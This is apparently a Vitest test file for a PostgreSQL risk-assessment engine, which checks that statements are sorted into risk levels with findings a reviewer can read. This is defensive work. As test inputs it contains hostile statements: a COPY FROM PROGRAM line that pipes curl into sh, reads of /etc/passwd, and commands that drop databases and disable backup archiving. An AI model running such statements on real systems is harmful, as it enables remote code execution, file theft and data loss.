@@ -1,0 +1,306 @@
+import { beforeAll, describe, expect, it } from "vitest";
+import { loadRiskEngine } from "./engine";
+import type { RiskAssessment, RiskLevel } from "./levels";
+import { assessSql } from "./sql";
+
+beforeAll(async () => {
+  await loadRiskEngine();
+});
+
+const ids = (a: RiskAssessment) => [...new Set(a.findings.map((f) => f.id))].sort();
+
+type Row = [sql: string, level: RiskLevel, findingIds: string[]];
+
+function table(rows: Row[]) {
+  it.each(rows)("%s → %s", (sql, level, findingIds) => {
+    const assessment = assessSql(sql);
+    expect(ids(assessment)).toEqual([...findingIds].sort());
+    expect(assessment.level).toBe(level);
+  });
+}
+
+describe("reads and harmless look-alikes stay low", () => {
+  table([
+    ["SELECT * FROM customers", "low", []],
+    ["SELECT 'DROP TABLE x'", "low", []],
+    ["-- DROP TABLE x", "low", []],
+    ["-- DROP TABLE x\nSELECT 1", "low", []],
+    ["SELECT 1; /* TRUNCATE t */", "low", []],
+    ["SELECT $$DROP TABLE t$$, $tag$TRUNCATE t; DELETE FROM t$tag$", "low", []],
+    ['SELECT * FROM "drop table"', "low", []],
+    ['SELECT "DELETE" FROM "TRUNCATE"', "low", []],
+    ["SELECT E'\\'; DROP TABLE x; --'", "low", []],
+    ["SHOW search_path", "low", []],
+    ["EXPLAIN DELETE FROM t", "low", []],
+    ["EXPLAIN (ANALYZE false) DELETE FROM t", "low", []],
+    ["BEGIN; SELECT 1; COMMIT;", "low", []],
+    ["SET statement_timeout = 5000", "low", []],
+    ["SET session_replication_role = origin", "low", []],
+    ["SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'", "low", []],
+    ["ANALYZE orders", "low", []],
+    ["WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", "low", []],
+    ["", "low", []],
+  ]);
+});
+
+describe("ordinary writes and DDL are medium", () => {
+  table([
+    ["INSERT INTO t (a) VALUES (1)", "medium", ["sql.write"]],
+    ["INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2", "medium", ["sql.write"]],
+    ["UPDATE t SET a = 1 WHERE id = 42", "medium", ["sql.write"]],
+    ["UPDATE t SET a = 1 WHERE 1 = 2", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE id = 42", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE CURRENT OF c", "medium", ["sql.write"]],
+    ["COPY t FROM STDIN", "medium", ["sql.write"]],
+    ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "medium", ["sql.write"]],
+    ["CREATE TABLE t (id int PRIMARY KEY)", "medium", ["sql.schema_change"]],
+    ["CREATE VIEW v AS SELECT 1", "medium", ["sql.schema_change"]],
+    ["SELECT * INTO archive FROM orders", "medium", ["sql.schema_change"]],
+    ["CREATE INDEX i ON t (a)", "medium", ["sql.create_index_blocking"]],
+    ["REINDEX TABLE t", "medium", ["sql.create_index_blocking"]],
+    ["CREATE INDEX CONCURRENTLY i ON t (a)", "medium", ["sql.schema_change"]],
+    ["ALTER TABLE t ADD COLUMN z int", "medium", ["sql.alter_table"]],
+    ["ALTER TABLE t DROP CONSTRAINT t_fk", "medium", ["sql.drop_constraint"]],
+    ["DROP INDEX i", "medium", ["sql.drop_object"]],
+    ["DROP VIEW v", "medium", ["sql.drop_object"]],
+    ["DROP FUNCTION f(int)", "medium", ["sql.drop_object"]],
+    ["DROP EXTENSION pgcrypto", "medium", ["sql.drop_object"]],
+    ["CREATE EXTENSION pgcrypto", "medium", ["sql.schema_change"]],
+    ["VACUUM FULL t", "medium", ["sql.maintenance"]],
+    ["LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "medium", ["sql.maintenance"]],
+    ["SET ROLE admin", "medium", ["sql.set_role"]],
+    ["SELECT setval('t_id_seq', 1)", "medium", ["sql.write"]],
+  ]);
+});
+
+describe("high-risk statements", () => {
+  table([
+    ["UPDATE t SET a = 1", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 1=1", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE true", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE id = id", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 'a'='a'", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 1 = '1'", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 't'::boolean", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE NOT false", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 2 > 1 AND 1 = 1", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE id = 5 OR true", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE x IS NULL OR x IS NOT NULL", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 1 IN (1, 2)", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE name LIKE '%'", "high", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE EXISTS (SELECT 1)", "high", ["sql.update_without_where"]],
+    ["WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM x", "high", ["sql.update_without_where"]],
+    ["ALTER TABLE t DROP COLUMN c", "high", ["sql.drop_column"]],
+    ["ALTER TABLE t ALTER COLUMN c TYPE bigint", "high", ["sql.alter_column_type"]],
+    ["GRANT SELECT ON t TO bob", "high", ["sql.grant"]],
+    ["GRANT admin TO bob", "high", ["sql.grant"]],
+    ["ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "high", ["sql.grant"]],
+    ["ALTER TABLE t OWNER TO mallory", "high", ["sql.grant"]],
+    ["REVOKE SELECT ON t FROM bob", "high", ["sql.revoke"]],
+    ["REVOKE admin FROM bob", "high", ["sql.revoke"]],
+    ["CREATE ROLE reporter LOGIN PASSWORD 'hunter2'", "high", ["sql.role_change"]],
+    ["CREATE USER app", "high", ["sql.role_change"]],
+    ["ALTER ROLE bob SUPERUSER", "high", ["sql.role_change"]],
+    ["ALTER USER bob WITH PASSWORD 'x'", "high", ["sql.role_change"]],
+    ["REASSIGN OWNED BY a TO b", "high", ["sql.role_change"]],
+    ["DROP ROLE bob", "high", ["sql.drop_role"]],
+    ["ALTER SYSTEM SET work_mem = '64MB'", "high", ["sql.alter_system"]],
+    ["ALTER SYSTEM SET archive_mode = on", "high", ["sql.alter_system"]],
+    ["SET session_replication_role = replica", "high", ["sql.replication_role"]],
+    ["SET LOCAL session_replication_role TO replica", "high", ["sql.replication_role"]],
+    ["SELECT set_config('session_replication_role', 'replica', false)", "high", ["sql.replication_role"]],
+    ["ALTER ROLE app SET session_replication_role = replica", "high", ["sql.replication_role", "sql.role_change"]],
+    ["COPY t FROM PROGRAM 'curl http://x | sh'", "high", ["sql.copy_program"]],
+    ["COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'", "high", ["sql.copy_program"]],
+    ["COPY t TO '/tmp/t.csv'", "high", ["sql.server_file_access"]],
+    ["COPY t FROM '/etc/passwd'", "high", ["sql.server_file_access"]],
+    ["SELECT pg_read_file('/etc/passwd')", "high", ["sql.server_file_access"]],
+    ["SELECT * FROM pg_ls_dir('.')", "high", ["sql.server_file_access"]],
+    ["SELECT lo_import('/etc/passwd')", "high", ["sql.server_file_access"]],
+    ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", "high", ["sql.terminate_backend"]],
+    ["SELECT pg_cancel_backend(123)", "high", ["sql.terminate_backend"]],
+    ["SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)", "high", ["sql.terminate_backend"]],
+    ["SELECT pg_drop_replication_slot('standby_1')", "high", ["sql.drop_replication_slot"]],
+    ["DROP SUBSCRIPTION sub", "high", ["sql.drop_replication_slot"]],
+    ["SELECT lo_unlink(1234)", "high", ["sql.large_object_destroy"]],
+    ["SELECT pg_reload_conf()", "high", ["sql.server_admin"]],
+    ["DO $$ BEGIN RAISE NOTICE 'hi'; END $$", "high", ["sql.opaque_code"]],
+    ["CALL archive_orders()", "high", ["sql.opaque_code"]],
+    ["EXECUTE purge_stmt", "high", ["sql.opaque_code"]],
+    ["PREPARE p AS SELECT 1", "high", ["sql.opaque_code"]],
+    ["LOAD 'auto_explain'", "high", ["sql.opaque_code"]],
+    ["SELECT dblink_exec('host=replica', 'SELECT 1')", "high", ["sql.opaque_code"]],
+    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS 'import os'", "high", ["sql.opaque_code", "sql.schema_change"]],
+    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$", "high", ["sql.opaque_code", "sql.schema_change"]],
+    ["DROP EXTENSION postgis CASCADE", "high", ["sql.drop_object"]],
+    ["DROP TYPE mood CASCADE", "high", ["sql.drop_object"]],
+    ["selec 1", "high", ["sql.parse_error"]],
+    ["SELECT * FROM", "high", ["sql.parse_error"]],
+    ["SELECT 'unterminated", "high", ["sql.parse_error"]],
+  ]);
+});
+
+describe("critical statements", () => {
+  table([
+    ["DROP TABLE customers", "critical", ["sql.drop_table"]],
+    ["DROP TABLE IF EXISTS app.orders, logs CASCADE", "critical", ["sql.drop_table"]],
+    ["DROP SCHEMA billing CASCADE", "critical", ["sql.drop_schema"]],
+    ["DROP DATABASE prod", "critical", ["sql.drop_database"]],
+    ["DROP DATABASE prod WITH (FORCE)", "critical", ["sql.drop_database"]],
+    ["TRUNCATE orders", "critical", ["sql.truncate"]],
+    ["TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", "critical", ["sql.truncate"]],
+    ["DELETE FROM orders", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM orders WHERE true", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM orders o USING customers c WHERE 1 = 1", "critical", ["sql.delete_without_where"]],
+    ["DROP OWNED BY app CASCADE", "critical", ["sql.drop_owned"]],
+    ["EXPLAIN ANALYZE DELETE FROM t", "critical", ["sql.delete_without_where"]],
+    ["EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "critical", ["sql.delete_without_where"]],
+    ["MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "critical", ["sql.delete_without_where", "sql.write"]],
+  ]);
+});
+
+describe("statements hidden inside other statements", () => {
+  table([
+    ["WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "critical", ["sql.delete_without_where"]],
+    ["WITH a AS (SELECT 1), b AS (DELETE FROM logs RETURNING id) SELECT * FROM a, b", "critical", ["sql.delete_without_where"]],
+    ["INSERT INTO audit SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", "critical", ["sql.delete_without_where", "sql.write"]],
+    ["PREPARE p AS DELETE FROM t", "critical", ["sql.delete_without_where", "sql.opaque_code"]],
+    ["DO $$ BEGIN DELETE FROM t; END $$", "critical", ["sql.delete_without_where", "sql.opaque_code"]],
+    ["DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$", "high", ["sql.opaque_code", "sql.terminate_backend"]],
+    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END", "critical", ["sql.delete_without_where", "sql.schema_change"]],
+    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'TRUNCATE t; SELECT 1'", "critical", ["sql.schema_change", "sql.truncate"]],
+    ["CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$", "critical", ["sql.drop_table", "sql.schema_change"]],
+    ["CREATE FUNCTION f(n int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t WHERE id = n; RETURN 1; END $$", "medium", ["sql.schema_change", "sql.write"]],
+    ["CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "critical", ["sql.delete_without_where", "sql.schema_change"]],
+    ["SELECT dblink_exec('dbname=prod', 'DROP TABLE y')", "critical", ["sql.drop_table", "sql.opaque_code"]],
+    ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "critical", ["sql.delete_without_where", "sql.opaque_code"]],
+  ]);
+});
+
+describe("batches and transactions take the worst statement and list every finding", () => {
+  table([
+    ["BEGIN; DROP TABLE x; COMMIT;", "critical", ["sql.drop_table"]],
+    ["BEGIN; UPDATE t SET a = 1 WHERE id = 1; ROLLBACK;", "medium", ["sql.write"]],
+    ["SELECT 1; DROP TABLE x; UPDATE t SET a = 1", "critical", ["sql.drop_table", "sql.update_without_where"]],
+    ["INSERT INTO t VALUES (1); GRANT ALL ON t TO PUBLIC", "high", ["sql.grant", "sql.write"]],
+    ["DROP TABLE a; selec 1; TRUNCATE b", "critical", ["sql.drop_table", "sql.parse_error", "sql.truncate"]],
+    ["SELECT 1; selec 2; SELECT 3", "high", ["sql.parse_error"]],
+  ]);
+
+  it("lists one finding per dropped table, each naming its table", () => {
+    const assessment = assessSql("DROP TABLE IF EXISTS app.orders, logs CASCADE");
+    expect(assessment.findings.map((f) => f.message)).toEqual([
+      "Drops table `app.orders`, and with CASCADE every object that depends on it",
+      "Drops table `public.logs`, and with CASCADE every object that depends on it",
+    ]);
+    expect(assessment.findings.map((f) => f.targets)).toEqual([["app.orders"], ["public.logs"]]);
+  });
+
+  it("merges identical findings from repeated statements", () => {
+    const assessment = assessSql("DELETE FROM t; DELETE FROM t;");
+    expect(assessment.findings).toHaveLength(1);
+  });
+
+  it("reports each statement that does not parse, with the parser's message", () => {
+    const assessment = assessSql("selec 1; SELECT 2; updat t set a = 1");
+    const errors = assessment.findings.filter((f) => f.id === "sql.parse_error").map((f) => f.message);
+    expect(errors).toHaveLength(2);
+    expect(errors[0]).toContain('syntax error at or near "selec"');
+    expect(errors[1]).toContain('syntax error at or near "updat"');
+    expect(errors[1]).toContain("at character 20");
+  });
+
+  it("lists at most ten parse errors but still classifies every statement", () => {
+    const batch = `${"selec 1; ".repeat(25)}DROP TABLE last_one;`;
+    const assessment = assessSql(batch);
+    const errors = assessment.findings.filter((f) => f.id === "sql.parse_error");
+    expect(errors).toHaveLength(11);
+    expect(errors.at(-1)?.message).toBe("15 more statements do not parse");
+    expect(assessment.level).toBe("critical");
+    expect(assessment.targets).toEqual(["public.last_one"]);
+  });
+
+  it("positions errors and slices statements correctly after multi-byte text", () => {
+    const batch = assessSql("SELECT 'é'; selec 1; DROP TABLE ü");
+    expect(batch.findings.find((f) => f.id === "sql.parse_error")?.message).toContain("at character 13");
+    expect(batch.targets).toContain("public.ü");
+    const doBlock = assessSql("SELECT 'ééé'; DO $$ BEGIN DELETE FROM t; END $$");
+    expect(ids(doBlock)).toEqual(["sql.delete_without_where", "sql.opaque_code"]);
+  });
+
+  it("keeps production-data and backup findings together when a batch does both", () => {
+    const assessment = assessSql("DROP TABLE customers; ALTER SYSTEM SET archive_mode = off");
+    expect(ids(assessment)).toEqual(["backup.disable_archiving", "sql.alter_system", "sql.drop_table"]);
+    expect(assessment.level).toBe("critical");
+  });
+});
+
+describe("PITR is its own class: backup.disable_archiving", () => {
+  table([
+    ["ALTER SYSTEM SET archive_mode = off", "critical", ["backup.disable_archiving", "sql.alter_system"]],
+    ["ALTER SYSTEM SET archive_mode TO false", "critical", ["backup.disable_archiving", "sql.alter_system"]],
+    ["ALTER SYSTEM RESET archive_mode", "critical", ["backup.disable_archiving", "sql.alter_system"]],
+    ["ALTER SYSTEM SET archive_command = '/bin/true'", "critical", ["backup.disable_archiving", "sql.alter_system"]],
+    ["ALTER SYSTEM RESET archive_command", "critical", ["backup.disable_archiving", "sql.alter_system"]],
+    ["ALTER SYSTEM SET archive_library = ''", "critical", ["backup.disable_archiving", "sql.alter_system"]],
+    ["ALTER SYSTEM SET wal_level = minimal", "critical", ["backup.disable_archiving", "sql.alter_system"]],
+    ["ALTER SYSTEM RESET ALL", "critical", ["backup.disable_archiving", "sql.alter_system"]],
+    ["ALTER SYSTEM SET wal_level = replica", "high", ["sql.alter_system"]],
+    // Only disabling PITR counts: a table merely named like backups is ordinary data.
+    ["DROP TABLE backups", "critical", ["sql.drop_table"]],
+    ["TRUNCATE snapshot_history", "critical", ["sql.truncate"]],
+  ]);
+});
+
+describe("messages a reviewer understands", () => {
+  it.each([
+    ["DROP TABLE customers", "Drops table `public.customers`"],
+    ["DELETE FROM orders", "Deletes every row of `public.orders`"],
+    ["DELETE FROM orders WHERE 1=1", "Deletes every row of `public.orders` (its WHERE clause is always true)"],
+    ["UPDATE s.t SET a = 1", "Updates every row of `s.t`"],
+    ["DROP SCHEMA billing CASCADE", "Drops schema `billing` and, with CASCADE, every table and object in it"],
+    ["DROP SCHEMA billing", "Drops schema `billing` (RESTRICT: only if it is empty)"],
+    ["TRUNCATE a CASCADE", "Truncates `public.a`, deleting every row, and with CASCADE also every table that references it by foreign key"],
+    ["DROP DATABASE prod", "Drops database `prod`"],
+    ["ALTER TABLE t DROP COLUMN email", "Drops column `email` of `public.t`, deleting its data"],
+    ["DROP INDEX idx_orders", "Drops index `public.idx_orders`"],
+    ["DROP VIEW reporting.v CASCADE", "Drops view `reporting.v`, and with CASCADE every object that depends on it (which can include tables and columns)"],
+    ["GRANT SELECT, UPDATE ON orders TO bob", "Grants SELECT, UPDATE on table `public.orders` to `bob`"],
+    ["SELECT pg_terminate_backend(42)", "Calls `pg_terminate_backend`, which terminates other database sessions and rolls back their work"],
+    ["CREATE INDEX idx ON orders (created_at)", "Builds index `idx` on `public.orders` without CONCURRENTLY, blocking writes to the table until it finishes"],
+    ["DO $$ BEGIN DELETE FROM t; END $$", "Inside the DO block: Deletes every row of `public.t`"],
+  ])("%s", (sql, message) => {
+    expect(assessSql(sql).findings.map((f) => f.message)).toContain(message);
+  });
+
+  it("never repeats role passwords in messages", () => {
+    const messages = assessSql("CREATE ROLE r LOGIN PASSWORD 'hunter2'; ALTER ROLE r PASSWORD 'letmein'").findings.map((f) => f.message).join("\n");
+    expect(messages).toContain("password");
+    expect(messages).not.toContain("hunter2");
+    expect(messages).not.toContain("letmein");
+  });
+
+  it("escapes identifiers that try to rewrite the sentence", () => {
+    const [finding] = assessSql('DROP TABLE "x` (harmless) `y"').findings;
+    expect(finding?.message).toBe("Drops table `public.x\\u0060 (harmless) \\u0060y`");
+    const [bidi] = assessSql('DROP TABLE "a\u202eb"').findings;
+    expect(bidi?.message).toContain("\\u202e");
+  });
+});
+
+describe("targets", () => {
+  it.each([
+    ["SELECT * FROM a JOIN s.b ON true", ["public.a", "s.b"]],
+    ["SELECT * FROM db.s.t", ["db.s.t"]],
+    ["WITH x AS (SELECT 1) SELECT * FROM x", []],
+    ["WITH t AS (SELECT 1) DELETE FROM t", ["public.t"]],
+    ["SELECT * FROM pg_stat_activity", ["pg_catalog.pg_stat_activity"]],
+    ["DROP SCHEMA billing CASCADE", ["billing.*"]],
+    ["UPDATE orders SET a = 1 FROM customers WHERE orders.cid = customers.id", ["public.orders", "public.customers"]],
+    ["INSERT INTO archive SELECT * FROM orders", ["public.archive", "public.orders"]],
+    ["TRUNCATE a, b", ["public.a", "public.b"]],
+    ["GRANT SELECT ON s.t TO bob", ["s.t"]],
+  ])("%s", (sql, targets) => {
+    expect(assessSql(sql).targets).toEqual(targets);
+  });
+});
